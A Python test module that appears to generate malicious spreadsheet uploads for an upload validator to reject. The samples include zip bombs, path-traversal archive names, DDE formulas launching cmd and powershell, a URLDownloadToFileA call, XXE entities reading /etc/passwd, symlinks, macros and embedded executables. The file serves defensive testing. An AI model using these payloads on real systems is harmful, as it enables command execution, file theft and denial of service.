"""Workbooks that explode, reach out, bring programs along or can be read in two ways."""

import io
import struct
import zipfile
import zlib
from collections.abc import Iterator
from functools import cache

from django_modernize.uploads import SPREADSHEETS
from tests.images import PNG_SIGNATURE, make_png, png_chunk, png_header
from tests.workbooks import (
    EXTRA,
    HEAD,
    INDEX,
    OFFICE_TYPE,
    SHEET,
    SHEET_LINKS,
    TYPES,
    change,
    pack,
    parts,
    patch,
    relation,
    relations,
    sheet,
    workbook,
)

from .case import PAGE, SCRIPT, Case, refuse

LOCAL, ENTRY, END = b"PK\x03\x04", b"PK\x01\x02", b"PK\x05\x06"
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
GOOD = workbook()


def with_cells(cells: str, after: str = "") -> bytes:
    return workbook({SHEET: sheet(cells, after)})


def with_formula(formula: str) -> bytes:
    return with_cells(f'<row r="1"><c r="A1"><f>{formula}</f><v>1</v></c></row>')


def with_link(kind: str, target: str, mode: str = "External") -> bytes:
    return workbook({SHEET_LINKS: relations(relation(kind, target, mode=mode))})


def twice(name: str) -> bytes:
    return pack([*parts().items(), (name, "<a/>")])


def with_type(content_type: str) -> bytes:
    return change(
        TYPES, "</Types>", f'<Override PartName="/a" ContentType="{content_type}"/></Types>'
    )


def with_part(name: str, content: str | bytes = "<a/>") -> bytes:
    return workbook({name: content})


def lie(mark: bytes, place: int, value: int, *, width: str = "<I", which: int = 0) -> bytes:
    return patch(GOOD, mark, place, struct.pack(width, value), which=which)


def both_lie(place_in_local: int, place_in_entry: int, new: bytes) -> bytes:
    return patch(patch(GOOD, LOCAL, place_in_local, new), ENTRY, place_in_entry, new)


def overlap() -> bytes:
    """The second entry leads to the data of the first, with a name of its own."""
    return patch(GOOD, ENTRY, 42, GOOD[GOOD.index(ENTRY) + 42 :][:4], which=1)


def quote() -> bytes:
    """A part whose packed data hold the header of another, so that both are there."""
    inner = workbook({EXTRA: "<a/>"})
    return pack([*parts().items(), ("xl/media/a.png", inner)], zipfile.ZIP_STORED)


def share_bytes() -> bytes:
    """Two entries, the second of which begins within the first."""
    inner = pack([("xl/b.xml", "<b/>")], zipfile.ZIP_STORED)
    whole = pack([*parts().items(), ("xl/a.bin", inner), ("xl/b.xml", "<b/>")], zipfile.ZIP_STORED)
    return patch(whole, ENTRY, 42, struct.pack("<I", whole.index(inner)), which=len(parts()) + 2)


def hide_behind_stream() -> bytes:
    part = zlib.compressobj(9, zlib.DEFLATED, -15)
    good = part.compress(b"<a/>") + part.flush()
    content = pack([*parts().items(), ("xl/a.xml", b"x" * (len(good) + len(SCRIPT)))], 0)
    content = content.replace(b"x" * (len(good) + len(SCRIPT)), good + SCRIPT)
    last = len(parts())
    for mark, method, checksum in ((LOCAL, 8, 14), (ENTRY, 10, 16)):
        content = patch(content, mark, method, b"\x08\0", which=last)
        content = patch(content, mark, checksum, struct.pack("<I", zlib.crc32(b"<a/>")), which=last)
    return patch(content, ENTRY, 24, struct.pack("<I", 4), which=last)


def last_entry() -> tuple[int, int]:
    """Return which entry of the directory is the last, and how long its packed data are."""
    which = len(parts()) - 1
    start = GOOD.rindex(ENTRY)
    return which, int(struct.unpack_from("<I", GOOD, start + 20)[0])


def reach_into_directory() -> bytes:
    which, size = last_entry()
    return lie(ENTRY, 20, size + 3, which=which)


def stop_half_way() -> bytes:
    which, size = last_entry()
    return lie(ENTRY, 20, size // 2, which=which)


def link_entry() -> bytes:
    entry = zipfile.ZipInfo("xl/link.xml")
    entry.external_attr = 0o120777 << 16
    target = io.BytesIO(GOOD)
    with zipfile.ZipFile(target, "a") as archive:
        archive.writestr(entry, "/etc/passwd")
    return target.getvalue()


def packed_with(method: int) -> bytes:
    return workbook(method=method)


def bomb(megabytes: int) -> bytes:
    return with_part("xl/a.xml", b"<a>" + b" " * (megabytes << 20) + b"</a>")


ENTITIES = '<!DOCTYPE a [<!ENTITY b "bb"><!ENTITY c "&b;&b;">]><a>&c;</a>'

PRINTER = "xl/printerSettings/printerSettings1.bin"
FAR = sheet('<row r="1048576"><c r="XFD1048576"><f>cmd|x!A0</f></c></row>')


@cache
def make_large_png() -> bytes:
    """Return 25 megapixels in 75 KB."""
    row, packer = bytes(1 + 3 * 5_000), zlib.compressobj(9)
    pixels = b"".join(packer.compress(row) for _ in range(5_000)) + packer.flush()
    end = png_chunk(b"IEND", b"")
    return PNG_SIGNATURE + png_header(5_000, 5_000) + png_chunk(b"IDAT", pixels) + end


def old_drawing(attribute: str) -> bytes:
    return with_part(
        "xl/drawings/a.vml",
        f'<xml xmlns:v="v" xmlns:o="o"><v:shape><v:imagedata {attribute}/></v:shape></xml>',
    )


CASES = {
    "a workbook that explodes": {
        "many large pictures": (
            lambda: workbook({f"xl/media/{n}.png": make_large_png() for n in range(60)}),
            "pixels",
        ),
        "10 MB of blanks": (lambda: bomb(10), "ratio"),
        "90 MB of blanks": (lambda: bomb(90), "ratio"),
        "150 MB of blanks": (lambda: bomb(150), "unpacked_size"),
        "many parts that are each below": (
            lambda: workbook(
                {f"xl/a{n}.xml": b"<a>" + bytes(range(32, 60)) * 9000 + b"</a>" for n in range(500)}
            ),
            "unpacked_size",
        ),
        "4 GB, as it says": (lie(ENTRY, 24, 0xFFFFFFFE), "unpacked_size"),
    },
    "a workbook that lies of its sizes": {
        "a part is longer than it says": (lie(ENTRY, 24, 10), "size_mismatch"),
        "a part is shorter than it says": (lie(ENTRY, 24, 90_000), "size_mismatch"),
        "packed beyond the end": (lie(ENTRY, 20, 9_000_000), "truncated"),
        "something behind a packed part": (hide_behind_stream(), "size_mismatch"),
        "a packed part that stops half way": (stop_half_way(), "truncated"),
        "a wrong checksum": (lie(ENTRY, 16, 1), "checksum"),
        "stored with two sizes": (
            patch(packed_with(0), ENTRY, 24, struct.pack("<I", 3)),
            "size_mismatch",
        ),
        "a part that cannot be unpacked": (
            patch(GOOD, LOCAL, 30 + len(TYPES), b"\xff\xff\xff"),
            "damaged",
        ),
    },
    "an archive that contradicts itself": {
        "the same name twice": (lambda: twice(SHEET), "ambiguous"),
        "the same name in other case": (lambda: twice(SHEET.upper()), "ambiguous"),
        "two entries for one part": (overlap(), "ambiguous"),
        "a part within a part": (share_bytes(), "ambiguous"),
        "another name in the directory": (patch(GOOD, ENTRY, 46, b"X"), "ambiguous"),
        "another packing in the part's header": (lie(LOCAL, 8, 0, width="<H"), "ambiguous"),
        "more entries than there are": (
            patch(GOOD, END, 8, struct.pack("<HH", 9, 9)),
            "damaged",
        ),
        "fewer entries than there are": (
            patch(GOOD, END, 8, struct.pack("<HH", 2, 2)),
            "damaged",
        ),
        "a directory elsewhere": (lie(END, 16, 7), "damaged"),
        "a directory beyond the end": (lie(END, 16, 0x7FFFFFFF), "damaged"),
        "an entry that leads nowhere": (lie(ENTRY, 42, 9), "damaged"),
        "a part that reaches into the directory": (reach_into_directory(), "ambiguous"),
        "a folder with a content": (lambda: with_part("xl/folder/", b"x"), "damaged"),
        "a part of 4 GB and more": (lie(ENTRY, 20, 0xFFFFFFFF), "unsupported"),
        "several volumes": (lie(END, 4, 1, width="<H"), "unsupported"),
        "the format for 4 GB and more": (lie(END, 16, 0xFFFFFFFF), "unsupported"),
        "no directory": (GOOD[: GOOD.index(END)], "truncated"),
        "cut off in a part": (GOOD[:400], "truncated"),
    },
    "a workbook with names that lead out": {
        name or "empty": (with_part(name), "entry_names")
        for name in (
            "../../etc/cron.d/x", "/etc/passwd", "xl/../../x.xml", "xl\\..\\x.xml", "C:/x.xml",
            "xl//x.xml", "./x.xml", "xl/\u202egnp.xml", "xl/a\nb.xml", "xl/a|b.xml",
            "xl/" + "a" * 250 + ".xml",
        )
    },
    "an encrypted workbook": {
        "the old wrapping": (
            OLE + bytes(600) + "EncryptedPackage".encode("utf-16-le"),
            "encrypted",
        ),
        "rights management": (OLE + bytes(600) + "DRMEncrypted".encode("utf-16-le"), "encrypted"),
        "an encrypted part": (both_lie(6, 8, b"\1\0"), "encrypted"),
        "encrypted in its own header alone": (lie(LOCAL, 6, 1, width="<H"), "encrypted"),
        "strong encryption": (lie(ENTRY, 8, 0x40, width="<H"), "encrypted"),
    },
    "another office file": {
        "the old format": (OLE + bytes(1000), "unsupported"),
        "OpenDocument": (
            pack({"mimetype": "application/vnd.oasis.opendocument.spreadsheet"}, 0),
            "type_mismatch",
        ),
        "a plain archive": (pack({"x.php": SCRIPT}), "type_mismatch"),
        "a Java program": (pack({"META-INF/MANIFEST.MF": "Main-Class: X"}), "type_mismatch"),
        "a text of Word": (
            change(TYPES, "spreadsheetml.sheet.main", "wordprocessingml.document.main"),
            "type_mismatch",
        ),
        "a template": (change(TYPES, "sheet.main", "template.main"), "type_mismatch"),
        "no sheet": (change(INDEX, '<sheet name="Plan" sheetId="1" r:id="rId1"/>', ""), "damaged"),
    },
    "a workbook in unusual packing": {
        "bzip2": (packed_with(zipfile.ZIP_BZIP2), "unsupported"),
        "LZMA": (packed_with(zipfile.ZIP_LZMA), "unsupported"),
        "an unknown one": (both_lie(8, 10, b"\x63\0"), "unsupported"),
        "a symbolic link": (link_entry(), "unsupported"),
    },
    "a workbook of too many parts": {
        "1,200 parts": (
            lambda: workbook({f"xl/a{n}.xml": "<a/>" for n in range(1200)}),
            "too_many_pieces",
        ),
        "60,000 parts, as it says": (
            patch(GOOD, END, 8, struct.pack("<HH", 60_000, 60_000)),
            "too_many_pieces",
        ),
    },
    "an archive within a workbook": {
        "a workbook": (with_part("xl/media/a.png", GOOD), "nested_archive"),
        "stored, so that its parts are seen": (quote(), "nested_archive"),
        "gzip": (with_part("xl/media/a.gz", b"\x1f\x8b\x08" + bytes(20)), "nested_archive"),
        "RAR": (with_part("xl/a.xml", b"Rar!\x1a\x07"), "nested_archive"),
        "7z": (with_part("docProps/thumbnail.jpeg", b"7z\xbc\xaf\x27\x1c"), "nested_archive"),
        "a cabinet": (with_part("xl/a.cab", b"MSCF" + bytes(30)), "nested_archive"),
    },
    "a workbook with macros": {
        "a project": (with_part("xl/vbaProject.bin", OLE), "macros"),
        "a project under another name": (
            with_type("application/vnd.ms-office.vbaProject"),
            "macros",
        ),
        "a project by relation": (
            workbook({SHEET_LINKS: relations(relation("vbaProject", "x.bin"))}),
            "macros",
        ),
        "a workbook made for them": (
            change(
                TYPES,
                f"{OFFICE_TYPE}.sheet.main+xml",
                "application/vnd.ms-excel.sheet.macroEnabled.main+xml",
            ),
            "macros",
        ),
        "a binary workbook": (
            with_type("application/vnd.ms-excel.sheet.binary.macroEnabled.main"),
            "macros",
        ),
        "a sheet of old macros": (with_part("xl/macrosheets/sheet1.xml"), "macros"),
        "such a sheet under another name": (
            with_part(EXTRA, '<xm:macrosheet xmlns:xm="u"/>'),
            "macros",
        ),
        "a dialog": (with_part("xl/dialogsheets/sheet1.xml"), "macros"),
        "a ribbon": (with_part("customUI/customUI.xml"), "macros"),
        "a name that runs at opening": (
            change(
                INDEX,
                "</workbook>",
                '<definedNames><definedName name="_xlnm.Auto_Open">A1</definedName></definedNames>'
                "</workbook>",
            ),
            "macros",
        ),
    },
    "a formula that starts something": {
        title: (with_formula(formula), "formulas")
        for title, formula in {
            "DDE": "cmd|'/c calc'!A0",
            "Python in a cloud": "_xlfn._xlws.PY(0,1)",
            "DDE with a plus": "+cmd|' /C powershell'!A0",
            "DDE in a sum": "1+MSEXCEL|'\\..\\..\\cmd.exe /c calc'!''",
            "DDE spelled with entities": "cmd&#124;'/c calc'!A0",
            "a library": 'CALL("urlmon","URLDownloadToFileA","JJCCJJ",0,"u")',
            "a registered library": "REGISTER.ID(&quot;a&quot;,&quot;b&quot;)",
            "a program": 'EXEC ("calc.exe")',
            "the web": "WEBSERVICE(&quot;https://x/&quot;&amp;A1)",
            "an image of the web": "IMAGE(&quot;https://x&quot;)",
            "a server of data": 'RTD("a.b",,"c")',
            "another's data": "IMPORTDATA(A1)",
        }.items()
    }
    | {
        "DDE in a name": (
            change(
                INDEX,
                "</workbook>",
                "<definedNames><definedName name='a'>cmd|'/c x'!A0</definedName></definedNames>"
                "</workbook>",
            ),
            "formulas",
        ),
        "DDE in a validation": (
            with_cells("", "<dataValidation><formula1>cmd|'x'!A0</formula1></dataValidation>"),
            "formulas",
        ),
        "DDE under a prefix": (
            with_cells('<x:c xmlns:x="u" r="A1"><x:f>cmd|\'x\'!A0</x:f></x:c>'),
            "formulas",
        ),
    },
    "a workbook that refers elsewhere": {
        "a picture in an old drawing": (old_drawing('src="https://x/a.png"'), "external_links"),
        "a picture on a share": (old_drawing('o:href="//x/a.png"'), "external_links"),
        "a query of Power Query": (
            with_part("customXml/item1.xml", "<DataMashup>AAAA</DataMashup>"),
            "external_links",
        ),
        "a picture by relation in an odd part": (
            with_part(
                "xl/drawings/_rels/drawing9.xml.rels",
                relations(relation("image", "https://x/a.png", mode="External")),
            ),
            "external_links",
        ),
        "another workbook": (with_part("xl/externalLinks/externalLink1.xml"), "external_links"),
        "another workbook under another name": (
            with_part(EXTRA, "<externalLink><externalBook/></externalLink>"),
            "external_links",
        ),
        "a program's data": (with_part(EXTRA, '<ddeLink ddeService="cmd"/>'), "external_links"),
        "a database": (with_part("xl/connections.xml"), "external_links"),
        "a query": (with_part("xl/queryTables/queryTable1.xml"), "external_links"),
        "an add-in": (with_part("xl/webextensions/webextension1.xml"), "external_links"),
        "an image of a share": (with_link("image", "file://host/a.png"), "external_links"),
        "a template of the web": (with_link("attachedTemplate", "https://x/a"), "external_links"),
        "a link to a program": (with_link("hyperlink", "file:///C:/x.exe"), "external_links"),
        "a link to a share": (with_link("hyperlink", "\\\\host\\x"), "external_links"),
        "a link that is a script": (with_link("hyperlink", "javascript:x"), "external_links"),
        "a share that is not called external": (
            with_link("image", "\\\\host\\x", mode="Internal"),
            "external_links",
        ),
    },
    "a sheet under another name": {
        "printer settings": (with_part(PRINTER, FAR), "embedded_files"),
        "printer settings behind blanks": (with_part(PRINTER, " \n" + FAR), "embedded_files"),
        "printer settings in UTF-16": (with_part(PRINTER, FAR.encode("utf-16")), "embedded_files"),
        "printer settings, UTF-16 without a mark": (
            with_part(PRINTER, FAR.encode("utf-16-be")),
            "embedded_files",
        ),
        "printer settings of a Mac with entities": (
            with_part(PRINTER, f'{HEAD}<!DOCTYPE plist [<!ENTITY a "b">]><plist/>'),
            "embedded_files",
        ),
        "a picture": (with_part("xl/media/a.png", FAR), "embedded_files"),
        "a thumbnail": (with_part("docProps/thumbnail.emf", FAR), "embedded_files"),
        "a relation's ending in capitals": (
            with_part("xl/_rels/A.RELS", relations(relation("image", "file:///x"))),
            "external_links",
        ),
    },
    "a workbook with other files": {
        "an OLE object": (with_part("xl/embeddings/oleObject1.bin", OLE), "embedded_files"),
        "an OLE object as image": (with_part("xl/media/a.png", OLE), "embedded_files"),
        "a control": (with_part("xl/activeX/activeX1.bin", b"x"), "embedded_files"),
        "an object in a sheet": (with_cells("", "<oleObject progId='a'/>"), "embedded_files"),
        "a program as image": (with_part("xl/media/a.png", b"MZ" + bytes(60)), "embedded_files"),
        "a program of Linux": (with_part("xl/a.dat", b"\x7fELF" + bytes(60)), "embedded_files"),
        "a page": (with_part("xl/media/a.html", PAGE), "embedded_files"),
        "a script": (with_part("xl/shell.php", SCRIPT), "embedded_files"),
        "a PDF": (with_part("xl/media/a.pdf", b"%PDF-1.7"), "embedded_files"),
        "printer settings of 300 KB": (
            with_part("xl/printerSettings/printerSettings1.bin", b"ab\0" * 100_000),
            "ratio",
        ),
        "a script in a drawing": (
            with_part("xl/drawings/a.vml", "<xml><script>x</script></xml>"),
            "scripts",
        ),
        "a damaged image": (with_part("xl/media/a.png", make_png()[:40]), "truncated"),
    },
    "XML that deceives its reader": {
        "entities": (with_part(EXTRA, ENTITIES), "document_type"),
        "a file by entity": (
            with_part(EXTRA, '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>'),
            "document_type",
        ),
        "a document type of the web": (
            with_part(EXTRA, '<!DOCTYPE a SYSTEM "https://x/a.dtd"><a/>'),
            "document_type",
        ),
        "entities in the index": (change(INDEX, HEAD, "<!DOCTYPE a []>"), "document_type"),
        "UTF-16": (with_part(EXTRA, "<a/>".encode("utf-16")), "damaged"),
        "UTF-7": (with_part(EXTRA, '<?xml version="1.0" encoding="UTF-7"?><a/>'), "unsupported"),
        "no XML": (with_part(EXTRA, "plain"), "damaged"),
        "empty": (with_part(EXTRA, ""), "damaged"),
        "two roots": (with_part(EXTRA, "<a/><b/>"), "damaged"),
        "cut off": (with_part(EXTRA, "<a><b>"), "damaged"),
        "no blank between attributes": (with_cells('<c r="A1"s="1"/>'), "damaged"),
        "an undeclared entity": (with_part(EXTRA, "<a>&b;</a>"), "damaged"),
        "a hundred levels": (with_part(EXTRA, "<a>" * 100 + "</a>" * 100), "depth"),
        "100,000 levels": (with_part(EXTRA, "<a>" * 100_000), "ratio"),
        "a million elements and more": (
            lambda: workbook(
                {f"xl/a{n}.xml": "<a>" + "<b/>" * 60_000 + "</a>" for n in range(40)}
            ),
            "too_many_pieces",
        ),
    },
    "far cells": {
        "the last cell": (with_cells('<row r="1048576"><c r="XFD1048576"/></row>'), "cells"),
        "two far cells": (
            with_cells('<row r="1"><c r="A1"/></row><row r="9"><c r="XFD1048576"/></row>'),
            "cells",
        ),
        "a far column": (with_cells('<row r="1"><c r="XFD1"/></row>'), "cells"),
        "a far row of two columns": (with_cells('<row r="1"><c r="B1048576"/></row>'), "cells"),
        "rows without cells": (
            with_cells('<row r="1"><c r="ZZ1"/></row><row r="1048576"/>'),
            "cells",
        ),
        "a number that overflows": (with_cells('<c r="A99999999999"/>'), "damaged"),
        "letters that overflow": (with_cells('<c r="ZZZZZZZ9"/>'), "damaged"),
        "small letters": (with_cells('<c r="xfd1"/>'), "damaged"),
        "row 0": (with_cells('<c r="A0"/>'), "damaged"),
        "a row of no number": (with_cells('<row r="x"/>'), "damaged"),
        "an entity in the reference": (with_cells('<c r="&#88;FD1048576"/>'), "cells"),
        "a prefix": (with_cells('<x:c xmlns:x="u" r="XFD1048576"/>'), "cells"),
        "cells without references": (with_cells(f"<row>{'<c/>' * 2_500}</row>"), "cells"),
        "rows without numbers": (
            with_cells(f'<row r="900000"/>{"<row><c/><c/></row>" * 3}'),
            "cells",
        ),
        "in a part of another name": (
            with_part(EXTRA, "<sheetData><c r='XFD1048576'/></sheetData>"),
            "cells",
        ),
    },
}  # fmt: skip


def list_cases() -> Iterator[Case]:
    for threat, cases in CASES.items():
        for title, (content, code) in cases.items():
            yield refuse(threat, title, "plan.xlsx", content, code, SPREADSHEETS)
